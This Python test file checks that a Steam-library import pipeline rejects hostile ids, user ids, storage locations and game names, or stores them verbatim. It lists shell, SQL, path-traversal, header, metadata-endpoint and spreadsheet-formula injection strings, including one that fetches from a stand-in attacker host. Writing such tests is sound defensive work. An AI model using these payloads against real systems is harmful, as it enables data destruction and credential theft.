"""Hostile Steam ids, user ids, locations and game names: each is rejected with a clear, typed
error before anything is fetched or written, or handled correctly (kept verbatim as data)."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import boto3
import httpx
import pytest
from tests.reliability.support import (
    USER,
    Figures,
    Harness,
    outcome,
)

from lambdas.clients.igdb import IgdbClient
from lambdas.clients.s3 import S3Storage
from lambdas.models.csv_codec import decode_rows, encode_rows
from lambdas.models.rows import EnrichedGameRow, MatchMethod, MatchStatus, RawGameRow
from lambdas.pipeline import Stage
from lambdas.review.service import search_candidates
from lambdas.stages import StageContext

VICTIM = "rel-victim"


def _steam_requests(harness: Harness) -> int:
    steam = harness.sandbox.stats().requests.get("steam", {})
    return sum(sum(statuses.values()) for statuses in steam.values())


def _all_files(root: Path) -> set[str]:
    return {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()}


# -- Steam ids -----------------------------------------------------------------------------------

HOSTILE_STEAM_IDS: dict[str, Any] = {
    "sql-quote": "76561197961166730' OR '1'='1",
    "sql-statement": '76561197961166730; DROP TABLE "User"; --',
    "sql-union": "1 UNION SELECT password FROM pg_shadow",
    "query-key": "76561197961166730&key=stolen",
    "query-format": "76561197961166730?format=xml&steamids=1",
    "query-in-vanity": "sandbox_medium&steamids=76561197961166733",
    "url-encoded-vanity": "https://steamcommunity.com/id/x%26key%3Dy",
    "path-traversal": "../../ISteamUser/ResolveVanityURL/v1/?vanityurl=x",
    "shell-substitution": "$(reboot)",
    "shell-backticks": "`id`",
    "shell-chain": "; rm -rf / #",
    "shell-pipe": "| cat /etc/passwd",
    "ten-thousand-digits": "7" * 10_000,
    "ten-thousand-letters": "a" * 10_000,
    "300-characters": "b" * 300,
    "fullwidth-digits": "７６５６１１９７９６１１６６７３０",
    "arabic-indic-digits": "٧٦٥٦١١٩٧٩٦١١٦٦٧٣٠",
    "superscript-digits": "⁷⁶⁵⁶¹¹⁹⁷⁹⁶¹¹⁶⁶⁷³⁰",
    "negative": "-76561197961166730",
    "negative-int": -76561197961166730,
    "plus-sign": "+76561197961166730",
    "overflow-2-64": str(2**64),
    "overflow-26-digits": "9" * 26,
    "overflow-int": 2**70,
    "steam2-overflow": "STEAM_0:1:99999999999",
    "steam3-overflow": "[U:1:4294967296]",
    "not-an-individual": "103582791429521408",
    "nul": "76561197961166730\x00",
    "crlf-header-injection": "76561197961166730\r\nX-Injected: 1",
    "empty": "",
    "blank": "   ",
    "null": None,
    "list": ["76561197961166730"],
    "object": {"$ne": None},
    "bool": True,
}


@pytest.mark.parametrize("name", list(HOSTILE_STEAM_IDS))
def test_hostile_steam_ids(name: str, harness: Harness, reliability: Figures) -> None:
    with reliability.hostile_input(f"steam id: {name}"):
        before = harness.snapshot()
        result = harness.run(event={"user_id": USER, "steam_id64": HOSTILE_STEAM_IDS[name]})
        code = outcome(result)
        assert code in {"INVALID_STEAM_ID", "INVALID_EVENT"}, result.as_dict()
        error = result.failed.response.error if result.failed else ""
        assert error and len(error) < 400, error  # clear, and the input never echoed whole
        assert _steam_requests(harness) == 0  # refused before any request
        assert harness.stored_keys() == []
        assert harness.snapshot() == before


# -- user ids ------------------------------------------------------------------------------------

HOSTILE_USER_IDS: dict[str, Any] = {
    "dot-dot-slash": f"../{VICTIM}",
    "dot-dot": "..",
    "dot": ".",
    "slash": f"{USER}/../{VICTIM}",
    "absolute": "/etc/passwd",
    "backslash": f"..\\{VICTIM}",
    "nul": f"{USER}\x00",
    "nul-then-victim": f"{USER}\x00/../{VICTIM}",
    "url-encoded-dots": "%2e%2e",
    "newline": f"{USER}\n",
    "space": f" {USER}",
    "glob": "*",
    "dash-option": "-rf",
    "sql": f'{USER}\'; DROP TABLE "User"; --',
    "unicode-lookalike": "rel‐user‐1",  # U+2010 hyphens
    "129-characters": "u" * 129,
    "2000-characters": "u" * 2000,
    "empty": "",
    "integer": 42,
    "null": None,
}


@pytest.mark.parametrize("stage", [Stage.STEAM, Stage.ENRICH, Stage.LOAD])
@pytest.mark.parametrize("name", list(HOSTILE_USER_IDS))
def test_hostile_user_ids(name: str, stage: Stage, harness: Harness, reliability: Figures) -> None:
    user_id = HOSTILE_USER_IDS[name]
    victim = _victim_csvs(harness)
    root = Path(harness.settings.data_dir)
    files = _all_files(root)
    event = {
        Stage.STEAM: {"user_id": user_id, "steam_id64": harness.steam_id("small")},
        Stage.ENRICH: {"user_id": user_id, "s3_location": victim["raw"]},
        Stage.LOAD: {"user_id": user_id, "s3_enriched_location": victim["enriched"]},
    }[stage]
    with reliability.hostile_input(f"user id at {stage.value}: {name}"):
        before = harness.snapshot()
        result = harness.run(from_stage=stage, event=event)
        assert outcome(result) in {"INVALID_USER_ID", "INVALID_EVENT"}, result.as_dict()
        assert _steam_requests(harness) == 0
        assert _all_files(root) == files  # nothing written anywhere
        assert harness.snapshot() == before


def _victim_csvs(harness: Harness) -> dict[str, str]:
    """Another user's raw and enriched CSVs, which no hostile location may reach."""
    row = RawGameRow(appid=10, name="Victim's secret game")
    enriched = EnrichedGameRow(
        **row.model_dump(),
        kind="GAME",
        classifier_rule="default",
        match_status=MatchStatus.UNMATCHED,
    )
    return {
        "raw": harness.storage.put(
            f"imports/{VICTIM}/20260101T000000000000Z-victim-raw.csv",
            encode_rows([row], RawGameRow),
        ),
        "enriched": harness.storage.put(
            f"imports/{VICTIM}/20260101T000000000000Z-victim-enriched.csv",
            encode_rows([enriched], EnrichedGameRow),
        ),
    }


# -- locations -----------------------------------------------------------------------------------


def _local_locations(root: Path) -> dict[str, str]:
    own = root / "imports" / USER
    return {
        "other-users-prefix": f"file://{root}/imports/{VICTIM}/20260101T000000000000Z-victim-raw.csv",
        "dot-dot-segment": f"file://{own}/../{VICTIM}/20260101T000000000000Z-victim-raw.csv",
        "encoded-dot-dot": f"file://{own}/%2e%2e/{VICTIM}/20260101T000000000000Z-victim-raw.csv",
        "bare-dot-dot-path": f"{own}/../{VICTIM}/20260101T000000000000Z-victim-raw.csv",
        "relative-path": f"imports/{VICTIM}/20260101T000000000000Z-victim-raw.csv",
        "relative-escape": "../../../../etc/passwd",
        "absolute-path": "/etc/passwd",
        "absolute-file-uri": "file:///etc/passwd",
        "other-host": "file://evil.example/etc/passwd",
        "another-scheme-s3": f"s3://imports/imports/{USER}/x-raw.csv",
        "metadata-endpoint": "http://169.254.169.254/latest/meta-data/",
        "symlink-to-victim": f"file://{own}/20260101T000000000000Z-link-raw.csv",
        "prefix-lookalike": f"file://{root}/imports/{USER}-evil/20260101T000000000000Z-x-raw.csv",
        "nul": f"file://{own}/x\x00-raw.csv",
        "backslashes": f"{own}\\..\\{VICTIM}\\20260101T000000000000Z-victim-raw.csv",
        "not-a-csv": f"file://{own}/notes.txt",
        "folder": f"file://{own}",
        "empty-segment": f"file://{root}/imports//{USER}/x-raw.csv",
        "blank": "   ",
        "5000-characters": f"file://{own}/" + "a" * 5000 + ".csv",
    }


def _s3_locations(bucket: str) -> dict[str, str]:
    return {
        "other-users-prefix": f"s3://{bucket}/imports/{VICTIM}/20260101T000000000000Z-victim-raw.csv",
        "another-bucket": f"s3://other-{bucket}/imports/{USER}/20260101T000000000000Z-x-raw.csv",
        "dot-dot-segment": f"s3://{bucket}/imports/{USER}/../{VICTIM}/20260101T000000000000Z-victim-raw.csv",
        "encoded-dot-dot": f"s3://{bucket}/imports/{USER}/%2e%2e/{VICTIM}/20260101T000000000000Z-victim-raw.csv",
        "empty-segment": f"s3://{bucket}//imports/{USER}/x-raw.csv",
        "userinfo-host": f"s3://{bucket}@evil/imports/{USER}/x-raw.csv",
        "query-string": f"s3://{bucket}/imports/{USER}/x-raw.csv?versionId=1",
        "fragment": f"s3://{bucket}/imports/{USER}/x-raw.csv#frag",
        "absolute-path": "/etc/passwd",
        "file-uri": "file:///etc/passwd",
        "https-uri": f"https://{bucket}.s3.amazonaws.com/imports/{USER}/x-raw.csv",
        "prefix-only": f"s3://{bucket}/imports/{USER}",
        "nul": f"s3://{bucket}/imports/{USER}/x\x00-raw.csv",
        "backslashes": f"s3://{bucket}/imports/{USER}\\..\\{VICTIM}\\x-raw.csv",
    }


LOCAL_NAMES = list(_local_locations(Path("/r")))
S3_NAMES = list(_s3_locations("b"))
REFUSED = {"FORBIDDEN_LOCATION", "INVALID_LOCATION", "INVALID_EVENT"}


@pytest.mark.parametrize("stage", [Stage.ENRICH, Stage.LOAD])
@pytest.mark.parametrize("name", LOCAL_NAMES)
def test_hostile_local_locations(
    name: str, stage: Stage, harness: Harness, reliability: Figures
) -> None:
    root = Path(harness.settings.data_dir)
    victim = _victim_csvs(harness)
    own = root / "imports" / USER
    own.mkdir(parents=True, exist_ok=True)
    os.symlink(
        Path(victim["raw"].removeprefix("file://")), own / "20260101T000000000000Z-link-raw.csv"
    )
    (own / "notes.txt").write_text("appid,name\r\n")
    (root / "imports" / f"{USER}-evil").mkdir(parents=True)
    (root / "imports" / f"{USER}-evil" / "20260101T000000000000Z-x-raw.csv").write_bytes(
        Path(victim["raw"].removeprefix("file://")).read_bytes()
    )
    location = _local_locations(root)[name]
    with reliability.hostile_input(f"local location at {stage.value}: {name}"):
        _assert_refused(harness, stage, location, root)


@pytest.mark.parametrize("stage", [Stage.ENRICH, Stage.LOAD])
@pytest.mark.parametrize("name", S3_NAMES)
def test_hostile_s3_locations(
    name: str,
    stage: Stage,
    harness: Harness,
    reliability: Figures,
    s3_server: str,
    s3_bucket: str,
) -> None:
    client = boto3.client("s3", endpoint_url=s3_server, region_name="us-east-1")
    harness.storage = S3Storage(s3_bucket, client)
    _victim_csvs(harness)
    location = _s3_locations(s3_bucket)[name]
    keys = {item["Key"] for item in client.list_objects_v2(Bucket=s3_bucket).get("Contents", [])}
    with reliability.hostile_input(f"s3 location at {stage.value}: {name}"):
        context = StageContext(
            settings=harness.settings, storage=harness.storage, engine=harness.engine
        )
        before = harness.snapshot()
        field = "s3_location" if stage is Stage.ENRICH else "s3_enriched_location"
        result = harness.run(
            from_stage=stage, event={"user_id": USER, field: location}, context=context
        )
        code = outcome(result)
        # S3 keys are literal: an encoded `%2e%2e` names a key of its own, which does not exist.
        allowed = REFUSED | ({"LOCATION_NOT_FOUND"} if name == "encoded-dot-dot" else set())
        assert code in allowed, result.as_dict()
        after = {
            item["Key"] for item in client.list_objects_v2(Bucket=s3_bucket).get("Contents", [])
        }
        assert after == keys
        assert harness.snapshot() == before


def _assert_refused(harness: Harness, stage: Stage, location: str, root: Path) -> None:
    files = _all_files(root)
    before = harness.snapshot()
    field = "s3_location" if stage is Stage.ENRICH else "s3_enriched_location"
    result = harness.run(from_stage=stage, event={"user_id": USER, field: location})
    assert outcome(result) in REFUSED, result.as_dict()
    error = result.failed.response.error if result.failed else ""
    assert error and len(error) < 400 and "Victim" not in error, error
    assert _all_files(root) == files
    assert harness.snapshot() == before


# -- game names through the title fallback, the database and link search --------------------------

HOSTILE_NAMES = [
    'Quote " inside',
    "Ends with a backslash \\",
    '\\" escaped quote',
    'x"; fields *; where id = 1; limit 500; "',
    "where name = null | id > 0",
    ")}];-- sort id desc;",
    '\'; DROP TABLE "Game"; --',
    "Robert'); DELETE FROM \"ImportedGame\" WHERE ('1'='1",
    "$(curl evil.example) `id` | sh",
    "%s %d {0} {name} ${HOME}",
    'search "Portal"; limit 1;',
    'name ~ *"a"*',
]


def _catalogue_name_with_syntax(harness: Harness) -> tuple[str, int]:
    """An IGDB main game whose unique name holds a quote or backslash."""
    games = harness.sandbox.catalogue.tables["games"]
    counts: dict[str, int] = {}
    for game in games:
        counts[game["name"]] = counts.get(game["name"], 0) + 1
    for game in games:
        name = game["name"]
        main = game.get("game_type", 0) == 0 and game.get("version_parent") is None
        if ('"' in name or "\\" in name) and counts[name] == 1 and main:
            return name, int(game["id"])
    raise AssertionError("the catalogue has no such name")


def test_hostile_names_through_title_fallback_and_database(
    harness: Harness, reliability: Figures
) -> None:
    """Unmapped apps named with query and SQL syntax: stage 2 asks IGDB by exact title (never
    a rejected query), stage 3 stores every name verbatim, and a catalogue name with quotes and
    backslashes is matched by title to exactly its game."""
    real_name, real_id = _catalogue_name_with_syntax(harness)
    names = [*HOSTILE_NAMES, real_name]
    rows = [
        RawGameRow(appid=2_000_000_000 + index, name=name, playtime_forever=index)
        for index, name in enumerate(names)
    ]
    location = harness.storage.put(
        f"imports/{USER}/20260101T000000000000Z-names-raw.csv", encode_rows(rows, RawGameRow)
    )
    try:
        _check_names(harness, rows, names, location, real_name, real_id)
    except BaseException:
        for name in names:
            reliability.record_hostile(f"game name: {name[:24]!r}", handled=False)
        raise
    for name in names:
        reliability.record_hostile(f"game name: {name[:24]!r}", handled=True)


def _check_names(
    harness: Harness,
    rows: list[RawGameRow],
    names: list[str],
    location: str,
    real_name: str,
    real_id: int,
) -> None:
    result = harness.run(from_stage=Stage.ENRICH, event={"user_id": USER, "s3_location": location})
    assert outcome(result) == "success", result.as_dict()
    igdb = harness.sandbox.stats().requests["igdb"]
    assert set(igdb["multiquery"]) == {"200"}  # not one query was rejected as a syntax error
    enriched = decode_rows(
        harness.storage.get(result.response(Stage.ENRICH).s3_enriched_location, user_id=USER),
        EnrichedGameRow,
    )
    verdicts = {row.name: row for row in enriched}
    assert verdicts[real_name].match_method is MatchMethod.TITLE
    assert verdicts[real_name].igdb_id == real_id
    with harness.engine.connect() as connection:
        stored = dict(
            connection.exec_driver_sql(
                'SELECT "storefrontGameId", name FROM "ImportedGame" WHERE "userId" = %(u)s',
                {"u": USER},
            ).all()
        )
        tables = connection.exec_driver_sql(
            "SELECT count(*) FROM information_schema.tables WHERE table_name IN "
            "('Game', 'ImportedGame', 'User', 'LibraryItem')"
        ).scalar_one()
    assert tables == 4
    for row in rows:
        kept = verdicts[row.name].match_status is not MatchStatus.FILTERED
        if kept:
            assert stored[str(row.appid)] == row.name  # byte for byte


async def test_hostile_names_through_link_search(harness: Harness, reliability: Figures) -> None:
    real_name, real_id = _catalogue_name_with_syntax(harness)
    async with IgdbClient.from_settings(harness.settings) as igdb:
        for name in [*HOSTILE_NAMES, real_name, "x" * 5000, "\x00\x01\x1b[31m", "   "]:
            with reliability.hostile_input(f"link search: {name[:24]!r}"):
                found = await search_candidates(igdb, name)
                assert isinstance(found, list) and len(found) <= 10
                if name == real_name:
                    assert real_id in [game.id for game in found]
    igdb_stats = harness.sandbox.stats().requests["igdb"]
    assert set(igdb_stats["games"]) == {"200"}


# -- hostile text from Steam itself ----------------------------------------------------------------

STEAM_NAMES = [
    "NUL\x00inside",
    "=cmd|' /C calc'!A0",
    "Control \x01\x02\x1b[2J characters",
    "Line\nbreak and \r carriage",
    "é" * 500_000,  # 1 MB of UTF-8
    '"; DROP TABLE "ImportedGame"; --',
]


class _TamperingTransport(httpx.AsyncBaseTransport):
    """Forwards to the sandbox and rewrites GetOwnedGames answers: hostile names and numbers."""

    def __init__(self) -> None:
        self._inner = httpx.AsyncHTTPTransport()

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        response = await self._inner.handle_async_request(request)
        if "GetOwnedGames" not in request.url.path:
            return response
        body = json.loads(await response.aread())
        games = body["response"]["games"]
        for game, name in zip(games, STEAM_NAMES, strict=False):
            game["name"] = name
        games[0]["playtime_forever"] = 2**40
        games[1]["playtime_forever"] = -5
        games[2]["rtime_last_played"] = 2**45
        games.append({"appid": 2**33, "name": "appid beyond uint32"})
        games.append({"appid": -1, "name": "negative appid"})
        return httpx.Response(200, json=body)

    async def aclose(self) -> None:
        await self._inner.aclose()


def test_hostile_text_and_numbers_from_steam(harness: Harness, reliability: Figures) -> None:
    """Steam itself sends NUL, control characters, a megabyte name and numbers no column holds:
    the import completes, names are kept (NUL dropped), numbers clamped, bad app ids skipped."""
    context = StageContext(
        settings=harness.settings,
        storage=harness.storage,
        engine=harness.engine,
        transport=_TamperingTransport(),
    )
    with reliability.hostile_input("steam response: hostile names and numbers"):
        result = harness.run(kind="small", context=context)
        assert outcome(result) == "success", result.as_dict()
        raw = decode_rows(
            harness.storage.get(result.response(Stage.STEAM).s3_location, user_id=USER),
            RawGameRow,
        )
        names = {row.name for row in raw}
        assert "NULinside" in names and "é" * 500_000 in names
        assert set(STEAM_NAMES[1:]) <= names
        assert all(row.appid <= 2**32 - 1 for row in raw)
        assert max(row.playtime_forever for row in raw) == 2**31 - 1
        enriched = decode_rows(
            harness.storage.get(result.response(Stage.ENRICH).s3_enriched_location, user_id=USER),
            EnrichedGameRow,
        )
        with harness.engine.connect() as connection:
            stored = dict(
                connection.exec_driver_sql(
                    'SELECT "storefrontGameId", name FROM "ImportedGame"'
                ).all()
            )
        kept = {
            str(row.appid): row.name
            for row in enriched
            if row.match_status is not MatchStatus.FILTERED
        }
        assert stored == kept  # every name byte for byte, the megabyte one included if a game
